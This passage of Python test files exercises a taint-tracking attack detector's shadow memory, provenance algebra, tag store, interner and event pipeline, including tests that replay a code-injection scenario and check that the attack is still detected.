        for paddr, prov in tracker.shadow.items():
            assert prov != ()

    @given(n=st.integers(1, 16), start=st.integers(0, 1 << 16))
    @settings(max_examples=10, deadline=None)
    def test_clear_is_complete(self, n, start):
        from repro.taint.shadow import ShadowMemory

        shadow = ShadowMemory()
        shadow.set_range(start, n, (SEED_A,))
        shadow.clear_range(start, n)
        assert shadow.tainted_bytes == 0


# ----------------------------------------------------------------------
# provenance algebra (Table I), plain and interned
# ----------------------------------------------------------------------

tags = st.builds(
    Tag,
    st.sampled_from([TagType.NETFLOW, TagType.PROCESS, TagType.FILE]),
    st.integers(0, 7),
)

#: Provenance lists short enough that unions never hit MAX_PROV_LEN --
#: the regime where the full algebraic laws hold.
short_provs = st.lists(tags, max_size=5, unique=True).map(tuple)

#: Unrestricted lists (may reach the cap when unioned).
provs = st.lists(tags, max_size=MAX_PROV_LEN, unique=True).map(tuple)


def interned_ops():
    interner = ProvInterner()
    return interner.union, interner.append


IMPLEMENTATIONS = {
    "plain": lambda: (prov_union, append_tag),
    "interned": interned_ops,
}


class TestProvenanceAlgebra:
    @pytest.mark.parametrize("impl", sorted(IMPLEMENTATIONS))
    @given(a=short_provs, b=short_provs, c=short_provs)
    @settings(max_examples=60, deadline=None)
    def test_union_associative(self, impl, a, b, c):
        union, _ = IMPLEMENTATIONS[impl]()
        assert union(union(a, b), c) == union(a, union(b, c))

    @pytest.mark.parametrize("impl", sorted(IMPLEMENTATIONS))
    @given(a=provs, b=provs, c=provs)
    @settings(max_examples=60, deadline=None)
    def test_union_associative_even_at_the_cap(self, impl, a, b, c):
        # Truncation keeps the first MAX_PROV_LEN uniques of the
        # concatenated stream, so associativity survives the cap.
        union, _ = IMPLEMENTATIONS[impl]()
        assert union(union(a, b), c) == union(a, union(b, c))

    @pytest.mark.parametrize("impl", sorted(IMPLEMENTATIONS))
    @given(a=short_provs, b=short_provs)
    @settings(max_examples=60, deadline=None)
    def test_union_commutative_as_sets_below_cap(self, impl, a, b):
        # Ordered lists record chronology, so only the *membership* is
        # symmetric -- and only below the cap (a full list wins ties).
        union, _ = IMPLEMENTATIONS[impl]()
        assert set(union(a, b)) == set(union(b, a))

    @pytest.mark.parametrize("impl", sorted(IMPLEMENTATIONS))
    @given(a=provs)
    @settings(max_examples=30, deadline=None)
    def test_union_idempotent(self, impl, a):
        union, _ = IMPLEMENTATIONS[impl]()
        assert union(a, a) == a
        assert union(a, ()) == a
        assert union((), a) == a

    @pytest.mark.parametrize("impl", sorted(IMPLEMENTATIONS))
    @given(a=provs, t=tags)
    @settings(max_examples=60, deadline=None)
    def test_append_preserves_chronology(self, impl, a, t):
        _, append = IMPLEMENTATIONS[impl]()
        out = append(a, t)
        # Existing history is a prefix: first contact is never reordered.
        assert out[: len(a)] == a
        if t in a or len(a) >= MAX_PROV_LEN:
            assert out == a
        else:
            assert out == a + (t,)

    @pytest.mark.parametrize("impl", sorted(IMPLEMENTATIONS))
    @given(a=provs, t=tags)
    @settings(max_examples=30, deadline=None)
    def test_append_idempotent(self, impl, a, t):
        _, append = IMPLEMENTATIONS[impl]()
        assert append(append(a, t), t) == append(a, t)

    @given(a=provs, b=provs, t=tags)
    @settings(max_examples=60, deadline=None)
    def test_interned_matches_plain(self, a, b, t):
        interner = ProvInterner()
        assert interner.union(a, b) == prov_union(a, b)
        assert interner.append(a, t) == append_tag(a, t)

    @given(a=provs, b=provs)
    @settings(max_examples=30, deadline=None)
    def test_interned_results_are_canonical(self, a, b):
        interner = ProvInterner()
        first = interner.union(a, b)
        # Equal inputs -- even via fresh tuple objects -- must yield the
        # identical object, so identity comparison replaces equality.
        second = interner.union(tuple(a), tuple(b))
        assert first is second
        assert interner.intern(tuple(first)) is interner.intern(first)
