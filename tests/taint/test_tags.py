"""Unit + property tests for tags, prov_tag encoding, and the tag maps."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.taint.tags import (
    MAX_TAG_INDEX,
    NetflowTag,
    Tag,
    TagSpaceExhausted,
    TagStore,
    TagType,
)


class TestProvTagEncoding:
    def test_three_bytes(self):
        assert len(Tag(TagType.NETFLOW, 7).encode()) == 3

    def test_layout_type_then_index_le(self):
        raw = Tag(TagType.FILE, 0x1234).encode()
        assert raw[0] == TagType.FILE
        assert raw[1:] == b"\x34\x12"

    @given(
        tag_type=st.sampled_from(list(TagType)),
        index=st.integers(0, MAX_TAG_INDEX),
    )
    def test_roundtrip(self, tag_type, index):
        tag = Tag(tag_type, index)
        assert Tag.decode(tag.encode()) == tag

    def test_decode_rejects_wrong_length(self):
        with pytest.raises(ValueError):
            Tag.decode(b"\x01\x00")


class TestTagStore:
    def test_netflow_interning(self):
        store = TagStore()
        a = store.netflow_tag("1.2.3.4", 80, "5.6.7.8", 1000)
        b = store.netflow_tag("1.2.3.4", 80, "5.6.7.8", 1000)
        c = store.netflow_tag("1.2.3.4", 81, "5.6.7.8", 1000)
        assert a is not None and a == b
        assert a != c

    def test_netflow_payload_roundtrip(self):
        store = TagStore()
        tag = store.netflow_tag("169.254.26.161", 4444, "169.254.57.168", 49162)
        payload = store.netflow_payload(tag)
        assert payload == NetflowTag("169.254.26.161", 4444, "169.254.57.168", 49162)

    def test_process_tag_carries_cr3(self):
        store = TagStore()
        tag = store.process_tag(0x1640)
        assert store.process_cr3(tag) == 0x1640

    def test_file_tag_versions_distinct(self):
        store = TagStore()
        v1 = store.file_tag("a.txt", 1)
        v2 = store.file_tag("a.txt", 2)
        assert v1 != v2
        assert store.file_payload(v2).version == 2

    def test_export_table_tag_is_singleton(self):
        store = TagStore()
        assert store.export_table_tag() == store.export_table_tag()
        assert store.export_table_tag().type is TagType.EXPORT_TABLE

    def test_distinct_types_never_collide(self):
        store = TagStore()
        n = store.netflow_tag("1.1.1.1", 1, "2.2.2.2", 2)
        p = store.process_tag(0x1000)
        f = store.file_tag("x", 1)
        e = store.export_table_tag()
        assert len({n, p, f, e}) == 4

    def test_exhaustion_raises(self):
        store = TagStore()
        for i in range(MAX_TAG_INDEX + 1):
            store.process_tag(i)
        with pytest.raises(TagSpaceExhausted):
            store.process_tag(MAX_TAG_INDEX + 1)

    def test_sizes(self):
        store = TagStore()
        store.process_tag(1)
        store.process_tag(2)
        store.file_tag("a", 1)
        assert store.sizes() == {"netflow": 0, "process": 2, "file": 1, "export": 0}

    def test_augmented_export_tags(self):
        store = TagStore()
        anon = store.export_table_tag()
        named = store.export_table_tag("LoadLibraryA")
        again = store.export_table_tag("LoadLibraryA")
        other = store.export_table_tag("VirtualAlloc")
        assert anon.index == 0 and named.index != 0
        assert named == again and named != other
        assert store.export_function(named) == "LoadLibraryA"
        assert store.export_function(anon) is None
        assert store.describe(named) == "ExportTable(LoadLibraryA)"
        assert store.sizes()["export"] == 2

    def test_describe_paper_netflow_format(self):
        store = TagStore()
        tag = store.netflow_tag("169.254.26.161", 4444, "169.254.57.168", 49162)
        text = store.describe(tag)
        assert "169.254.26.161:4444" in text and text.startswith("NetFlow:")

    def test_describe_process_uses_osi_name(self):
        store = TagStore()
        tag = store.process_tag(0x1640)
        store.process_names[0x1640] = "notepad.exe"
        assert store.describe(tag) == "Process: notepad.exe"

    def test_describe_process_without_name_shows_cr3(self):
        store = TagStore()
        tag = store.process_tag(0x1640)
        assert "cr3=0x1640" in store.describe(tag)
