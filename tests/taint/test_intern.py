"""Unit tests for the provenance interner (the fast path's memo layer)."""

from repro.taint.intern import GLOBAL_INTERNER, ProvInterner
from repro.taint.provenance import EMPTY, MAX_PROV_LEN, append_tag, prov_union
from repro.taint.tags import Tag, TagType

N = Tag(TagType.NETFLOW, 0)
P = Tag(TagType.PROCESS, 1)
F = Tag(TagType.FILE, 2)


class TestIntern:
    def test_empty_is_the_shared_empty(self):
        assert ProvInterner().intern(()) is EMPTY

    def test_equal_tuples_collapse_to_one_object(self):
        interner = ProvInterner()
        a = interner.intern((N, P))
        b = interner.intern((N, P))
        assert a is b

    def test_first_seen_object_becomes_canonical(self):
        interner = ProvInterner()
        original = (N,)
        assert interner.intern(original) is original
        assert interner.intern((N,)) is original

    def test_canonical_input_short_circuits(self):
        interner = ProvInterner()
        canon = interner.intern((N, P))
        # Same object back, without a tuple-hash probe (id fast path).
        assert interner.intern(canon) is canon

    def test_seed_is_canonical_single_tag(self):
        interner = ProvInterner()
        assert interner.seed(N) == (N,)
        assert interner.seed(N) is interner.seed(N)
        assert interner.intern((N,)) is interner.seed(N)


class TestMemoisedAlgebra:
    def test_union_matches_plain_function(self):
        interner = ProvInterner()
        cases = [
            ((), ()),
            ((N,), ()),
            ((), (P,)),
            ((N,), (N,)),
            ((N, P), (P, F)),
            ((F, N), (P,)),
        ]
        for a, b in cases:
            assert interner.union(a, b) == prov_union(a, b)

    def test_append_matches_plain_function(self):
        interner = ProvInterner()
        for prov in [(), (N,), (N, P), (P,) * 1]:
            for tag in (N, P, F):
                assert interner.append(prov, tag) == append_tag(prov, tag)

    def test_append_respects_cap(self):
        interner = ProvInterner()
        full = tuple(Tag(TagType.FILE, i) for i in range(MAX_PROV_LEN))
        assert interner.append(full, N) == full

    def test_union_result_is_canonical_and_cached(self):
        interner = ProvInterner()
        a, b = interner.intern((N,)), interner.intern((P,))
        first = interner.union(a, b)
        misses = interner.misses
        second = interner.union(a, b)
        assert first is second
        assert interner.misses == misses  # pure cache hit
        assert interner.hits > 0

    def test_union_identical_operands_is_identity(self):
        interner = ProvInterner()
        a = interner.intern((N, P))
        assert interner.union(a, a) is a
        assert interner.union(a, ()) is a
        assert interner.union((), a) is a

    def test_union_all_folds(self):
        interner = ProvInterner()
        out = interner.union_all([(N,), (P,), (N,), (F,)])
        assert out == (N, P, F)
        assert interner.intern(out) is out


class TestHousekeeping:
    def test_cache_sizes_report(self):
        interner = ProvInterner()
        interner.union((N,), (P,))
        sizes = interner.cache_sizes()
        assert sizes["union_cache"] == 1
        assert sizes["canonical"] >= 2

    def test_clear_resets_everything(self):
        interner = ProvInterner()
        interner.union((N,), (P,))
        interner.append((N,), F)
        interner.clear()
        assert interner.cache_sizes() == {
            "canonical": 0,
            "union_cache": 0,
            "append_cache": 0,
        }
        assert interner.hits == 0 and interner.misses == 0
        # Still correct afterwards: inputs re-canonicalise on entry.
        assert interner.union((N,), (P,)) == (N, P)

    def test_global_interner_exists(self):
        assert GLOBAL_INTERNER.union((N,), (P,)) == (N, P)
