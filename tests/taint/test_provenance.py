"""Unit + property tests for the provenance-list algebra (Table I)."""

from hypothesis import given
from hypothesis import strategies as st

from repro.taint.provenance import (
    EMPTY,
    MAX_PROV_LEN,
    append_tag,
    delete,
    prov_copy,
    prov_union,
    union_all,
)
from repro.taint.tags import Tag, TagType

tags = st.builds(
    Tag,
    type=st.sampled_from(list(TagType)),
    index=st.integers(0, 50),
)
provs = st.lists(tags, max_size=8).map(
    lambda ts: tuple(dict.fromkeys(ts))  # dedup, preserve order
)


class TestBasics:
    def test_empty_is_untainted(self):
        assert EMPTY == ()
        assert delete() == EMPTY

    def test_copy_shares(self):
        prov = (Tag(TagType.NETFLOW, 0),)
        assert prov_copy(prov) is prov

    def test_append_preserves_chronology(self):
        n = Tag(TagType.NETFLOW, 0)
        p1 = Tag(TagType.PROCESS, 1)
        p2 = Tag(TagType.PROCESS, 2)
        prov = append_tag(append_tag(append_tag(EMPTY, n), p1), p2)
        assert prov == (n, p1, p2)

    def test_append_is_idempotent_keeps_first_position(self):
        n = Tag(TagType.NETFLOW, 0)
        p = Tag(TagType.PROCESS, 1)
        prov = append_tag(append_tag(EMPTY, n), p)
        assert append_tag(prov, n) == (n, p)

    def test_append_caps_length(self):
        prov = EMPTY
        for i in range(MAX_PROV_LEN + 10):
            prov = append_tag(prov, Tag(TagType.PROCESS, i))
        assert len(prov) == MAX_PROV_LEN
        # Oldest (origin-end) tags are the ones retained.
        assert prov[0] == Tag(TagType.PROCESS, 0)

    def test_union_merges_in_order(self):
        a = (Tag(TagType.NETFLOW, 0), Tag(TagType.PROCESS, 1))
        b = (Tag(TagType.PROCESS, 1), Tag(TagType.FILE, 2))
        assert prov_union(a, b) == (
            Tag(TagType.NETFLOW, 0),
            Tag(TagType.PROCESS, 1),
            Tag(TagType.FILE, 2),
        )

    def test_union_all(self):
        parts = [(Tag(TagType.PROCESS, i),) for i in range(3)]
        assert len(union_all(parts)) == 3


class TestProperties:
    @given(a=provs)
    def test_union_identity(self, a):
        assert prov_union(a, EMPTY) == a
        assert prov_union(EMPTY, a) == a

    @given(a=provs)
    def test_union_idempotent(self, a):
        assert prov_union(a, a) == a

    @given(a=provs, b=provs)
    def test_union_contains_both(self, a, b):
        u = prov_union(a, b)
        if len(set(a) | set(b)) <= MAX_PROV_LEN:
            assert set(a) | set(b) == set(u)

    @given(a=provs, b=provs, c=provs)
    def test_union_associative_as_sets(self, a, b, c):
        left = prov_union(prov_union(a, b), c)
        right = prov_union(a, prov_union(b, c))
        if len(set(a) | set(b) | set(c)) <= MAX_PROV_LEN:
            assert set(left) == set(right)

    @given(a=provs, b=provs)
    def test_union_never_duplicates(self, a, b):
        u = prov_union(a, b)
        assert len(u) == len(set(u))

    @given(a=provs, t=tags)
    def test_append_never_duplicates(self, a, t):
        out = append_tag(a, t)
        assert len(out) == len(set(out))

    @given(a=provs, b=provs)
    def test_union_bounded(self, a, b):
        assert len(prov_union(a, b)) <= MAX_PROV_LEN
