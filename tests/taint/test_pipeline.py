"""The decoupled taint pipeline: wire format, transports, soft drop.

Four layers, mirroring the module's contract:

* **wire format** -- hypothesis round-trips random channel-op sequences
  through the packed record stream, checking kind/run decomposition,
  ``FLAG_LAST`` placement, tag side-table resolution, and that a
  batched drain (which concatenates queued events and remaps their ref
  indices) decodes to exactly the inline event sequence;
* **transport equivalence** -- drop-free batched and worker runs must be
  bit-identical to inline down to shadow snapshots, per-event stats and
  interner counters (the instruction-stream legs live in
  ``test_differential.py``; these cover the channel-only paths);
* **soft drop** -- under a tiny FIFO the degraded run must *overtaint*:
  every byte's inline provenance is a subset of its degraded
  provenance, never the other way around, and the loss is visible in
  the drop gauges;
* **backpressure end-to-end** -- a ``FaultPlan`` with a 2-record queue
  drives a real attack replay into soft drop: the run flags itself
  degraded with a ``TaintPipelineOverflow`` fault record, publishes
  the ``taint.pipeline.*`` gauges, revalidates dropped pages, and the
  attack is still detected (conservatism means no missed detections).

The deprecated per-channel tracker methods are covered at the bottom:
they must warn (the suite promotes ``DeprecationWarning`` to an error),
still forward for out-of-tree callers, and stay out of machine hook
dispatch so channel events are never double-applied.
"""

import warnings
from array import array

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.attacks import build_code_injection_scenario
from repro.emulator.machine import Machine, MachineConfig
from repro.faros import Faros
from repro.faults.plan import FaultPlan
from repro.isa.memory import contiguous_runs
from repro.obs.metrics import MetricsRegistry
from repro.taint.intern import ProvInterner
from repro.taint.pipeline import (
    EV_APPEND,
    EV_CLEAR,
    EV_COPY,
    EV_FREE,
    EV_WRITE,
    FLAG_LAST,
    PROTOCOL_VERSION,
    RECORD_SLOTS,
    EventBatch,
    TaintPipeline,
    TaintSink,
    check_protocol,
)
from repro.taint.policy import TaintPolicy
from repro.taint.shadow import SHADOW_PAGE_SHIFT
from repro.taint.tags import Tag, TagType
from repro.taint.tracker import TaintTracker

TAGS = (
    Tag(TagType.NETFLOW, 0),
    Tag(TagType.NETFLOW, 1),
    Tag(TagType.PROCESS, 0),
    Tag(TagType.FILE, 0),
)

SHADOW_PAGE_SIZE = 1 << SHADOW_PAGE_SHIFT

# ======================================================================
# channel-op strategies (shared by the wire-format and transport tests)
# ======================================================================

#: A few shadow pages of scratch physical space.
offsets = st.integers(0, 2 * SHADOW_PAGE_SIZE)
lengths = st.integers(1, 48)
#: Scattered (possibly non-contiguous) address tuples, to exercise the
#: contiguous-run decomposition into multi-record events.
scatter = st.lists(offsets, min_size=1, max_size=12, unique=True).map(
    lambda xs: tuple(sorted(xs))
)

channel_ops = st.lists(
    st.one_of(
        st.tuples(st.just("taint"), scatter, st.sampled_from(TAGS)),
        st.tuples(st.just("clear"), scatter),
        st.tuples(st.just("write"), scatter),
        st.tuples(st.just("copy"), offsets, offsets, lengths,
                  st.sampled_from(TAGS + (None,))),
        st.tuples(st.just("free"), st.lists(st.integers(0, 32), min_size=1,
                                            max_size=4, unique=True).map(tuple)),
    ),
    min_size=1,
    max_size=16,
)


def emit(pipeline, op):
    """Feed one strategy op into *pipeline* through the protocol verbs."""
    name = op[0]
    if name == "taint":
        pipeline.taint(op[1], op[2])
    elif name == "clear":
        pipeline.clear(op[1])
    elif name == "write":
        pipeline.phys_write(op[1], source="fuzz")
    elif name == "copy":
        dst = tuple(range(op[1], op[1] + op[3]))
        src = tuple(range(op[2], op[2] + op[3]))
        pipeline.phys_copy(dst, src, actor_tag=op[4])
    else:  # free
        pipeline.frames_freed(op[1])


def expected_events(op):
    """The (kind, a, b, c, ref_tag, last) tuples one op must decode to."""
    name = op[0]
    out = []
    if name == "taint":
        runs = list(contiguous_runs(op[1]))
        for start, length in runs:
            out.append((EV_APPEND, start, length, 0, op[2], False))
    elif name in ("clear", "write"):
        kind = EV_CLEAR if name == "clear" else EV_WRITE
        for start, length in contiguous_runs(op[1]):
            out.append((kind, start, length, 0, None, False))
    elif name == "copy":
        out.append((EV_COPY, op[1], op[2], op[3], op[4], False))
    else:
        for start, length in contiguous_runs(op[1]):
            out.append((EV_FREE, start, length, 0, None, False))
    if out:
        kind, a, b, c, ref, _ = out[-1]
        out[-1] = (kind, a, b, c, ref, True)
    return out


class RecordingSink(TaintSink):
    """Collects batches; decodes them for wire-format assertions."""

    def __init__(self):
        self.batches = []

    def consume(self, batch):
        check_protocol(batch)
        self.batches.append(batch)

    def decoded(self):
        return [
            (e.kind, e.a, e.b, e.c, e.ref, e.last)
            for batch in self.batches
            for e in batch.events()
        ]


# ======================================================================
# 1. wire format: round trip, ordering, FLAG_LAST, ref remapping
# ======================================================================


class TestWireFormat:
    @given(ops=channel_ops)
    @settings(max_examples=60, deadline=None)
    def test_inline_round_trip(self, ops):
        """Every op decodes back to its contiguous-run decomposition."""
        sink = RecordingSink()
        pipeline = TaintPipeline(sink)
        for op in ops:
            emit(pipeline, op)
        expected = [ev for op in ops for ev in expected_events(op)]
        assert sink.decoded() == expected
        assert pipeline.emitted_records == sum(len(b) for b in sink.batches)

    @given(ops=channel_ops)
    @settings(max_examples=60, deadline=None)
    def test_batched_drain_preserves_order_and_refs(self, ops):
        """One drained mega-batch decodes to the inline event sequence.

        This is the ref-remapping property: drain concatenates queued
        events into one record array and rebases each event's side-table
        indices, so a tag reference must survive the merge.
        """
        sink = RecordingSink()
        pipeline = TaintPipeline(sink, mode="batched")
        for op in ops:
            emit(pipeline, op)
        assert sink.batches == []  # nothing consumed before the barrier
        pipeline.sync()
        assert sink.decoded() == [ev for op in ops for ev in expected_events(op)]
        assert pipeline.depth == 0

    def test_every_event_ends_with_flag_last(self):
        sink = RecordingSink()
        pipeline = TaintPipeline(sink)
        # Three disjoint runs -> one event, three records, one LAST.
        pipeline.taint((0, 1, 10, 11, 20), TAGS[0])
        (batch,) = sink.batches
        codes = batch.records[0::RECORD_SLOTS]
        assert [bool(c & FLAG_LAST) for c in codes] == [False, False, True]

    def test_version_mismatch_is_rejected(self):
        tracker = TaintTracker(interner=ProvInterner())
        stale = EventBatch(
            array("q", (EV_APPEND | FLAG_LAST, 0, 4, 0, 0, 0)),
            [TAGS[0]],
            version=PROTOCOL_VERSION + 1,
        )
        with pytest.raises(ValueError, match="protocol"):
            tracker.consume(stale)
        with pytest.raises(ValueError, match="protocol"):
            check_protocol(stale)

    def test_unknown_mode_is_rejected(self):
        with pytest.raises(ValueError, match="pipeline mode"):
            TaintPipeline(RecordingSink(), mode="async")
        with pytest.raises(ValueError, match="offload"):
            TaintPipeline(RecordingSink(), mode="worker", offload=True)


# ======================================================================
# 2. transport equivalence: drop-free batched/worker == inline
# ======================================================================


def apply_ops(tracker, ops):
    for op in ops:
        emit(tracker.pipeline, op)
    tracker.pipeline.sync()


def assert_channel_identical(a, b):
    assert a.shadow.snapshot() == b.shadow.snapshot()
    assert a.shadow.tainted_bytes == b.shadow.tainted_bytes
    assert a.stats.kernel_copies == b.stats.kernel_copies
    assert a.stats.external_writes == b.stats.external_writes
    assert a.stats.process_tag_appends == b.stats.process_tag_appends
    assert (a.interner.hits, a.interner.misses) == (
        b.interner.hits,
        b.interner.misses,
    ), "interner call sequences diverged between transports"


class TestTransportEquivalence:
    @given(ops=channel_ops)
    @settings(max_examples=60, deadline=None)
    def test_batched_matches_inline(self, ops):
        inline = TaintTracker(interner=ProvInterner())
        batched = TaintTracker(interner=ProvInterner(), taint_pipeline="batched")
        apply_ops(inline, ops)
        apply_ops(batched, ops)
        assert_channel_identical(batched, inline)

    def test_worker_replica_matches_local_sink(self):
        """The forked consumer ends the run byte-identical to the local
        sink, and the producer/consumer record ledgers agree."""
        ops = [
            ("taint", tuple(range(0, 64)), TAGS[0]),
            ("taint", (100, 101, 300, 301, 5000), TAGS[1]),
            ("copy", 200, 0, 32, TAGS[2]),
            ("write", tuple(range(16, 24))),
            ("clear", (100,)),
            ("free", (3,)),
        ]
        local = TaintTracker(interner=ProvInterner(), taint_pipeline="worker")
        apply_ops(local, ops)
        summary = local.pipeline.close()
        assert local.pipeline.worker_error is None
        assert summary is not None
        assert summary["records"] == local.pipeline.emitted_records
        assert summary["tainted_bytes"] == local.shadow.tainted_bytes
        assert summary["snapshot"] == local.shadow.snapshot()
        assert local.pipeline.lag_records == 0

    def test_offload_worker_is_the_only_consumer(self):
        """With ``offload=True`` nothing is applied locally -- the
        replica's snapshot is the authoritative result and must match a
        fresh inline tracker fed the same stream."""
        ops = [
            ("taint", tuple(range(0, 48)), TAGS[0]),
            ("copy", 128, 8, 16, None),
            ("write", tuple(range(0, 8))),
        ]
        offload = TaintPipeline(None, mode="worker", offload=True)
        for op in ops:
            emit(offload, op)
        summary = offload.close()
        assert offload.worker_error is None
        assert summary["records"] == offload.emitted_records
        oracle = TaintTracker(interner=ProvInterner())
        apply_ops(oracle, ops)
        assert summary["snapshot"] == oracle.shadow.snapshot()
        assert summary["tainted_bytes"] == oracle.shadow.tainted_bytes


# ======================================================================
# 3. soft drop: conservatism under a tiny FIFO
# ======================================================================


def prov_sets(tracker):
    return {paddr: set(prov) for paddr, prov in tracker.shadow.snapshot().items()}


class TestSoftDrop:
    @given(ops=channel_ops, depth=st.integers(1, 4))
    @settings(max_examples=60, deadline=None)
    def test_degraded_taint_is_a_superset(self, ops, depth):
        """Dropping may only *add* taint: every tag a byte carries in the
        precise run it must also carry in the degraded run."""
        inline = TaintTracker(interner=ProvInterner())
        degraded = TaintTracker(
            interner=ProvInterner(),
            policy=TaintPolicy(max_queue_depth=depth),
            taint_pipeline="batched",
        )
        apply_ops(inline, ops)
        apply_ops(degraded, ops)
        precise = prov_sets(inline)
        coarse = prov_sets(degraded)
        for paddr, tags in precise.items():
            assert tags <= coarse.get(paddr, set()), (
                f"byte {paddr:#x} lost taint under soft drop"
            )
        assert degraded.shadow.tainted_bytes >= inline.shadow.tainted_bytes
        pipe = degraded.pipeline
        assert pipe.dropped_records >= pipe.drops
        if pipe.drops == 0:
            assert pipe.overtainted_pages == 0
            assert coarse == precise

    def test_dropped_append_overtaints_every_spanned_page(self):
        tracker = TaintTracker(
            interner=ProvInterner(),
            policy=TaintPolicy(max_queue_depth=1),
            taint_pipeline="batched",
        )
        pipe = tracker.pipeline
        # A 2-byte seed straddling a shadow-page boundary...
        pipe.taint((SHADOW_PAGE_SIZE - 1, SHADOW_PAGE_SIZE), TAGS[0])
        # ...evicted by the next event: both spanned pages overtaint.
        pipe.taint((0,), TAGS[1])
        pipe.sync()
        assert pipe.drops == 1
        assert pipe.overtainted_pages == 2
        assert pipe.needs_revalidation
        assert set(tracker.shadow.get(0)) == {TAGS[0], TAGS[1]}
        assert tracker.shadow.get(2 * SHADOW_PAGE_SIZE - 1) == (TAGS[0],)
        assert pipe.revalidate_dropped() == 2
        assert not pipe.needs_revalidation

    def test_dropped_clear_keeps_stale_taint(self):
        tracker = TaintTracker(
            interner=ProvInterner(),
            policy=TaintPolicy(max_queue_depth=1),
            taint_pipeline="batched",
        )
        pipe = tracker.pipeline
        pipe.taint((0, 1, 2, 3), TAGS[0])
        pipe.sync()
        pipe.clear((0, 1, 2, 3))       # queued...
        pipe.phys_write((8, 9), "x")   # ...evicts it: the clear is lost
        pipe.sync()
        assert pipe.drops == 1
        assert pipe.overtainted_pages == 0  # clears degrade to nothing
        assert tracker.shadow.get(0) == (TAGS[0],)  # stale, conservative

    def test_oversized_event_on_empty_ring_is_exact(self):
        """An event bigger than the whole FIFO, arriving on an empty
        ring, is consumed synchronously -- never dropped."""
        tracker = TaintTracker(
            interner=ProvInterner(),
            policy=TaintPolicy(max_queue_depth=2),
            taint_pipeline="batched",
        )
        pipe = tracker.pipeline
        # Five disjoint runs -> five records > depth 2.
        pipe.taint((0, 10, 20, 30, 40), TAGS[0])
        assert pipe.drops == 0
        assert tracker.shadow.tainted_bytes == 5


# ======================================================================
# 4. backpressure end-to-end: FaultPlan -> degraded-but-detected replay
# ======================================================================


class TestBackpressureEndToEnd:
    def test_fault_plan_forces_soft_drop_and_still_detects(self):
        plan = FaultPlan(taint_pipeline="batched", max_queue_depth=2)
        attack = build_code_injection_scenario()
        scenario = plan.apply(attack.scenario)
        registry = MetricsRegistry()
        faros = Faros(policy=plan.taint_policy(), metrics=registry)
        scenario.run(plugins=[faros])

        # Soft drop engaged and the loss is observable.  (Boot-time
        # bursts evict clear/write events -- which degrade to nothing --
        # so the overtaint gauges are covered by the controlled-order
        # test below, not asserted here.)
        gauges = registry.snapshot()["gauges"]
        assert gauges["taint.pipeline.drops"] > 0
        assert gauges["taint.pipeline.dropped_records"] > 0
        assert gauges["taint.pipeline.depth"] == 0  # everything drained

        # The run rides the degradation contract: a populated fault
        # record, a degraded report -- and the attack is still caught.
        report = faros.report()
        assert report.degraded
        assert report.fault is not None
        assert report.fault["kind"] == "TaintPipelineOverflow"
        assert faros.attack_detected, "soft drop must never lose a detection"

    def test_overtaint_gauges_fire_when_an_append_is_evicted(self):
        from repro.taint.tracker import register_tracker_metrics

        registry = MetricsRegistry()
        tracker = TaintTracker(
            interner=ProvInterner(),
            policy=TaintPolicy(max_queue_depth=1),
            taint_pipeline="batched",
        )
        register_tracker_metrics(registry, tracker)
        tracker.pipeline.taint((0, 1), TAGS[0])      # queued...
        tracker.pipeline.phys_write((64,), "dma")    # ...evicts the append
        tracker.pipeline.pre_confluence()            # drain + revalidate
        gauges = registry.snapshot()["gauges"]
        assert gauges["taint.pipeline.drops"] == 1
        assert gauges["taint.pipeline.overtainted_pages"] == 1
        assert gauges["taint.pipeline.revalidations"] == 1

    def test_drop_free_batched_replay_is_not_degraded(self):
        attack = build_code_injection_scenario()
        faros = Faros(taint_pipeline="batched")
        attack.scenario.run(plugins=[faros])
        assert faros.pipeline.drops == 0
        assert not faros.report().degraded
        assert faros.attack_detected


# ======================================================================
# 5. the deprecated per-channel tracker API
# ======================================================================


SHIMS = ("taint_range", "clear_range", "on_phys_write", "on_phys_copy",
         "on_frames_freed")


class TestDeprecatedChannelMethods:
    @pytest.mark.parametrize("name", SHIMS)
    def test_shims_are_marked_and_promoted_to_errors(self, name):
        fn = getattr(TaintTracker, name)
        assert getattr(fn, "__deprecated_channel_shim__", False)
        tracker = TaintTracker(interner=ProvInterner())
        with warnings.catch_warnings():
            warnings.simplefilter("error")
            with pytest.raises(DeprecationWarning):
                if name == "taint_range":
                    tracker.taint_range((0,), TAGS[0])
                elif name == "clear_range":
                    tracker.clear_range((0,))
                elif name == "on_phys_write":
                    tracker.on_phys_write(None, (0,), "x")
                elif name == "on_phys_copy":
                    tracker.on_phys_copy(None, (0,), (1,))
                else:
                    tracker.on_frames_freed(None, (0,))

    def test_shims_still_forward_for_out_of_tree_callers(self):
        tracker = TaintTracker(interner=ProvInterner())
        with pytest.warns(DeprecationWarning):
            tracker.taint_range(range(0, 8), TAGS[0])
        assert tracker.shadow.tainted_bytes == 8
        with pytest.warns(DeprecationWarning):
            tracker.on_phys_copy(None, tuple(range(16, 24)), tuple(range(0, 8)))
        assert tracker.shadow.get(16) == (TAGS[0],)
        with pytest.warns(DeprecationWarning):
            tracker.clear_range(range(0, 8))
        assert tracker.shadow.get(0) == ()
        with pytest.warns(DeprecationWarning):
            tracker.on_phys_write(None, tuple(range(16, 24)), "dma")
        assert tracker.shadow.tainted_bytes == 0
        assert tracker.stats.external_writes == 1
        assert tracker.stats.kernel_copies == 1

    def test_machine_dispatch_skips_shims_no_double_application(self):
        """The machine's channel hooks go to the auto-registered
        pipeline, not the tracker's deprecated hook-named shims -- one
        physical write must count exactly once."""
        machine = Machine(MachineConfig())
        tracker = TaintTracker(interner=ProvInterner())
        machine.plugins.register(tracker)
        tracker.pipeline.taint(range(0x2000, 0x2008), TAGS[0])
        machine.phys_write(tuple(range(0x2000, 0x2008)), b"\x00" * 8, source="t")
        assert tracker.stats.external_writes == 1
        assert tracker.shadow.tainted_bytes == 0
