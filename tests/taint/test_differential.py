"""The differential test harness: reference semantics vs the fast path.

The fast path (interned provenance, page-organised shadow memory,
instrumentation gating -- :mod:`repro.taint.tracker`) must be *bit
identical* to the kept pre-optimisation implementation
(:mod:`repro.taint.reference`).  This harness enforces that along every
channel taint can move through:

* **shadow operations** -- random set/clear/range/scatter sequences
  against both shadow stores, comparing flat snapshots and probes;
* **instruction streams** -- hypothesis-generated guest programs run on
  ONE machine carrying both trackers (the reference always demands
  instrumentation, so both observe the identical stream), comparing
  shadow memory, register banks, and tainted-load observations;
* **kernel copies and external writes** -- random ``phys_copy`` /
